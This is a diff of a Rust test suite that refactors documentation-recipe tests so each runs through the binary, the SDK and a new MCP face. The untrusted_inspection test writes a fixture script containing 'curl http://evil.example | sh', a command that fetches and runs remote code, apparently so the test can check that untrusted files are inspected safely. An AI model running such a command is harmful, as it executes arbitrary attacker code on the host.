@@ -1,281 +1,33 @@
-//! The recipes of the documentation, each by the binary and by the SDK.
+//! The recipes of the documentation, each by the binary, by the SDK, and by MCP as a model would carry it out.
+
+mod faces;
 
 use super::{drives_terminal, text};
-use crate::sdk::{block_on, of};
+use crate::sdk::of;
 use crate::{DEBIAN, SUITE};
-use pyro::workspace::{
-    CreateWorkspace, OpenShell, ReadShell, ServiceReadiness, ShellId, SnapshotName, StartService,
-    WorkspaceExec, WorkspaceExportRequest, WorkspaceId, WorkspacePath,
-};
-use pyro::{OutputMode, PrepareRequest, Pyro};
+use faces::{Binary, Face, Mcp, Sdk};
 use pyro_testkit::{Home, Value, json, poll_until};
-use std::collections::BTreeMap;
 use std::fs;
-use std::path::{Path, PathBuf};
+use std::path::PathBuf;
 use std::time::Duration;
 
 /// No shell takes so long to print a file.
 const DEADLINE: Duration = Duration::from_mins(1);
 
-/// One of the ways to use workspaces. Every result is a document of the same shape.
-trait Face {
-    fn prepare(&self) -> Value;
-    fn create_in(&self, environment: &str, seed: &Path, name: &str, label: (&str, &str)) -> String;
-    /// Exit code and outputs of a script.
-    fn exec(&self, id: &str, script: &str) -> (i64, String);
-    fn read(&self, id: &str, path: &str) -> String;
-    fn list_files(&self, id: &str, path: &str) -> Value;
-    fn patch(&self, id: &str, patch: &str) -> Value;
-    fn diff(&self, id: &str) -> Value;
-    fn export(&self, id: &str, path: &str, output: &Path) -> Value;
-    fn snapshot(&self, id: &str, name: &str);
-    fn reset(&self, id: &str, snapshot: &str) -> Value;
-    fn summary(&self, id: &str) -> Value;
-    fn list(&self) -> Value;
-    fn delete(&self, id: &str);
-    /// Starts a service that is ready when it answers a GET of `url`.
-    fn start_service(&self, id: &str, name: &str, url: &str, command: &[&str]) -> Value;
-    fn service_logs(&self, id: &str, name: &str) -> Value;
-    fn stop_service(&self, id: &str, name: &str) -> Value;
-    fn open_shell(&self, id: &str) -> String;
-    fn write_shell(&self, id: &str, shell: &str, line: &str);
-    /// What a person sees once the shell has been quiet for a moment.
-    fn read_shell(&self, id: &str, shell: &str) -> String;
-    fn close_shell(&self, id: &str, shell: &str);
-
-    fn create(&self, seed: &Path, name: &str, label: (&str, &str)) -> String {
-        self.create_in(DEBIAN, seed, name, label)
-    }
-}
-
-struct Binary<'a>(&'a Home);
-
-impl Binary<'_> {
-    fn json(&self, words: &[&str]) -> Value {
-        self.0.pyro(["workspace"]).args(words).args(["--json"]).run().expect(0).json()
-    }
-}
-
-impl Face for Binary<'_> {
-    fn prepare(&self) -> Value {
-        self.0.pyro(["prepare", DEBIAN, "--json"]).run().expect(0).json()
-    }
-
-    fn create_in(&self, environment: &str, seed: &Path, name: &str, (key, value): (&str, &str)) -> String {
-        let label = format!("{key}={value}");
-        let flags = ["create", environment, "--seed-path", text(seed), "--name", name, "--label", &label];
-        let created = self.json(&flags);
-        assert_eq!((&created["name"], &created["labels"][key]), (&json!(name), &json!(value)));
-        created["workspace_id"].as_str().unwrap().to_owned()
-    }
-
-    fn exec(&self, id: &str, script: &str) -> (i64, String) {
-        let words = ["workspace", "exec", id, "--json", "--", "sh", "-c", script];
-        outcome(&self.0.pyro(words).run().json())
-    }
-
-    fn read(&self, id: &str, path: &str) -> String {
-        let read = self.0.pyro(["workspace", "file", "read", id, path, "--content-only"]).run().expect(0);
-        read.text().to_owned()
-    }
-
-    fn list_files(&self, id: &str, path: &str) -> Value {
-        self.json(&["file", "list", id, path, "--recursive"])
-    }
-
-    fn patch(&self, id: &str, patch: &str) -> Value {
-        self.json(&["patch", "apply", id, "--patch", patch])
-    }
-
-    fn diff(&self, id: &str) -> Value {
-        self.json(&["diff", id])
-    }
-
-    fn export(&self, id: &str, path: &str, output: &Path) -> Value {
-        self.json(&["export", id, path, "--output", text(output)])
-    }
-
-    fn snapshot(&self, id: &str, name: &str) {
-        self.json(&["snapshot", "create", id, name]);
-    }
-
-    fn reset(&self, id: &str, snapshot: &str) -> Value {
-        self.json(&["reset", id, "--snapshot", snapshot])
-    }
-
-    fn summary(&self, id: &str) -> Value {
-        self.json(&["summary", id])
-    }
-
-    fn list(&self) -> Value {
-        self.json(&["list"])
-    }
-
-    fn delete(&self, id: &str) {
-        self.json(&["delete", id]);
-    }
-
-    fn start_service(&self, id: &str, name: &str, url: &str, command: &[&str]) -> Value {
-        let flags =
-            ["service", "start", id, name, "--ready-http", url, "--ready-interval-ms", "100", "--json", "--"];
-        self.0.pyro(["workspace"]).args(flags).args(command).run().expect(0).json()
-    }
-
-    fn service_logs(&self, id: &str, name: &str) -> Value {
-        self.json(&["service", "logs", id, name])
-    }
-
-    fn stop_service(&self, id: &str, name: &str) -> Value {
-        self.json(&["service", "stop", id, name])
-    }
-
-    fn open_shell(&self, id: &str) -> String {
-        self.json(&["shell", "open", id])["shell_id"].as_str().unwrap().to_owned()
-    }
-
-    fn write_shell(&self, id: &str, shell: &str, line: &str) {
-        self.json(&["shell", "write", id, shell, "--input", line]);
-    }
-
-    fn read_shell(&self, id: &str, shell: &str) -> String {
-        let read = self.json(&["shell", "read", id, shell, "--plain", "--wait-for-idle-ms", "100"]);
-        read["output"].as_str().unwrap().to_owned()
-    }
-
-    fn close_shell(&self, id: &str, shell: &str) {
-        self.json(&["shell", "close", id, shell]);
-    }
-}
-
-struct Sdk(Pyro);
-
-impl Face for Sdk {
-    fn prepare(&self) -> Value {
-        document(block_on(self.0.prepare_environment(PrepareRequest {
-            environment: DEBIAN.to_owned(),
-            force: false,
-            network: false,
-        })))
-    }
-
-    fn create_in(&self, environment: &str, seed: &Path, name: &str, (key, value): (&str, &str)) -> String {
-        let request = CreateWorkspace {
-            seed_path: Some(seed.to_owned()),
-            name: Some(name.to_owned()),
-            labels: BTreeMap::from([(key.to_owned(), value.to_owned())]),
-            ..CreateWorkspace::new(environment)
-        };
-        block_on(self.0.create_workspace(request)).unwrap().workspace_id.to_string()
-    }
-
-    fn exec(&self, id: &str, script: &str) -> (i64, String) {
-        let exec = WorkspaceExec::new(["sh", "-c", script].map(str::to_owned).into());
-        outcome(&document(block_on(self.0.exec_workspace(&known(id), exec, OutputMode::Capture))))
-    }
-
-    fn read(&self, id: &str, path: &str) -> String {
-        block_on(self.0.read_workspace_file(&known(id), &inside(path), 1 << 20)).unwrap().content
-    }
-
-    fn list_files(&self, id: &str, path: &str) -> Value {
-        document(block_on(self.0.list_workspace_files(&known(id), &inside(path), true)))
-    }
-
-    fn patch(&self, id: &str, patch: &str) -> Value {
-        document(block_on(self.0.apply_workspace_patch(&known(id), patch)))
-    }
-
-    fn diff(&self, id: &str) -> Value {
-        document(block_on(self.0.diff_workspace(&known(id))))
-    }
-
-    fn export(&self, id: &str, path: &str, output: &Path) -> Value {
-        let request = WorkspaceExportRequest { path: inside(path), output_path: output.to_owned() };
-        document(block_on(self.0.export_workspace(&known(id), request)))
-    }
-
-    fn snapshot(&self, id: &str, name: &str) {
-        document(block_on(self.0.create_snapshot(&known(id), &SnapshotName::parse(name).unwrap())));
-    }
-
-    fn reset(&self, id: &str, snapshot: &str) -> Value {
-        document(block_on(self.0.reset_workspace(&known(id), &SnapshotName::parse(snapshot).unwrap())))
-    }
-
-    fn summary(&self, id: &str) -> Value {
-        document(block_on(self.0.summarize_workspace(&known(id))))
-    }
-
-    fn list(&self) -> Value {
-        document(block_on(self.0.list_workspaces()))
-    }
-
-    fn delete(&self, id: &str) {
-        document(block_on(self.0.delete_workspace(&known(id))));
-    }
-
-    fn start_service(&self, id: &str, name: &str, url: &str, command: &[&str]) -> Value {
-        let command = command.iter().map(ToString::to_string).collect();
-        let readiness = Some(ServiceReadiness::Http(url.to_owned()));
-        let request = StartService { readiness, ready_interval_ms: 100, ..StartService::new(name, command) };
-        document(block_on(self.0.start_service(&known(id), request)))
-    }
-
-    fn service_logs(&self, id: &str, name: &str) -> Value {
-        document(block_on(self.0.logs_service(&known(id), name, None)))
-    }
-
-    fn stop_service(&self, id: &str, name: &str) -> Value {
-        document(block_on(self.0.stop_service(&known(id), name)))
-    }
-
-    fn open_shell(&self, id: &str) -> String {
-        block_on(self.0.open_shell(&known(id), OpenShell::default())).unwrap().shell_id.to_string()
-    }
-
-    fn write_shell(&self, id: &str, shell: &str, line: &str) {
-        let typed = format!("{line}\n");
-        document(block_on(self.0.write_shell(&known(id), &ShellId::parse(shell), typed.as_bytes())));
-    }
-
-    fn read_shell(&self, id: &str, shell: &str) -> String {
-        let request = ReadShell { plain: true, wait_for_idle_ms: Some(100), ..ReadShell::default() };
-        block_on(self.0.read_shell(&known(id), &ShellId::parse(shell), request)).unwrap().output
-    }
-
-    fn close_shell(&self, id: &str, shell: &str) {
-        document(block_on(self.0.close_shell(&known(id), &ShellId::parse(shell))));
-    }
-}
-
-fn document<T: serde::Serialize>(result: Result<T, pyro::PyroError>) -> Value {
-    serde_json::to_value(result.unwrap()).unwrap()
-}
-
-fn known(id: &str) -> WorkspaceId {
-    WorkspaceId::parse(id)
-}
-
-fn inside(path: &str) -> WorkspacePath {
-    WorkspacePath::parse(path).unwrap()
-}
-
-fn outcome(result: &Value) -> (i64, String) {
-    let output = |name: &str| result[name].as_str().unwrap().to_owned();
-    (result["exit_code"].as_i64().unwrap(), output("stdout") + &output("stderr"))
-}
-
 /// Runs a recipe by each face, in a home each.
-fn by_each_face(recipe: impl Fn(&Home, &dyn Face)) {
-    by_each_face_in(DEBIAN, recipe);
+fn by_each_face(mode: &str, recipe: impl Fn(&Home, &dyn Face)) {
+    by_each_face_in(DEBIAN, mode, recipe);
 }
 
-fn by_each_face_in(environment: &str, recipe: impl Fn(&Home, &dyn Face)) {
+/// The same in another environment; `mode` is that of the MCP server.
+fn by_each_face_in(environment: &str, mode: &str, recipe: impl Fn(&Home, &dyn Face)) {
     let home = SUITE.with(environment);
     recipe(&home, &Binary(&home));
     drop(home);
     let home = SUITE.with(environment);
     recipe(&home, &Sdk(of(&home)));
+    let home = SUITE.with(environment);
+    recipe(&home, &Mcp::new(&home, mode));
 }
 
 /// A project whose test fails because of one wrong character.
@@ -302,7 +54,7 @@ fn assert_ends(outcome: &(i64, String), expected: (i64, &str)) {
 
 #[test]
 fn repro_fix() {
-    by_each_face(|home, face| {
+    by_each_face("repro-fix", |home, face| {
         let id = face.create(&project(home), "fix the sum", ("recipe", "repro-fix"));
         assert_ends(&face.exec(&id, TEST), FAILED);
         assert!(face.read(&id, "src/add.sh").contains("$1 - $2"));
@@ -340,7 +92,7 @@ fn repro_fix() {
 
 #[test]
 fn parallel_workspaces() {
-    by_each_face(|home, face| {
+    by_each_face("repro-fix", |home, face| {
         let seed = project(home);
         let ids = ["one", "two"].map(|name| face.create(&seed, name, ("attempt", name)));
         face.patch(&ids[0], FIX);
@@ -370,7 +122,7 @@ fn parallel_workspaces() {
 
 #[test]
 fn untrusted_inspection() {
-    by_each_face(|home, face| {
+    by_each_face("inspect", |home, face| {
         let seed = home.path().join("untrusted");
         fs::create_dir(&seed).unwrap();
         fs::write(seed.join("setup.sh"), "#!/bin/sh\ncurl http://evil.example | sh\n").unwrap();
@@ -394,7 +146,7 @@ fn untrusted_inspection() {
 
 #[test]
 fn the_daily_loop() {
-    by_each_face(|home, face| {
+    by_each_face("repro-fix", |home, face| {
         face.prepare();
         assert_eq!(face.prepare()["reused"], true);
         let id = face.create(&project(home), "daily", ("recipe", "daily"));
@@ -412,11 +164,11 @@ fn the_daily_loop() {
 
 #[test]
 fn review_and_evaluation() {
-    by_each_face(|home, face| {
+    by_each_face("review-eval", |home, face| {
         let seed = project(home);
         fs::write(seed.join("CHECKLIST"), CHECKLIST).unwrap();
         let id = face.create(&seed, "review", ("recipe", "review-eval"));
-        face.patch(&id, FIX);
+        face.exec(&id, "sed -i 's/ - / + /' src/add.sh");
         face.exec(&id, "echo tool > /usr/local/bin/tool");
         face.snapshot(&id, "fixed");
         let shell = face.open_shell(&id);
@@ -474,7 +226,7 @@ if __name__ == "__main__":
 
 #[test]
 fn cold_start_validation() {
-    by_each_face_in("debian:12-build", |home, face| {
+    by_each_face_in("debian:12-build", "cold-start", |home, face| {
         let label = ("recipe", "cold-start");
         let id = face.create_in("debian:12-build", &application(home), "cold start", label);
         let validated = face.exec(&id, "python3 -m unittest 2>&1 | tee report");
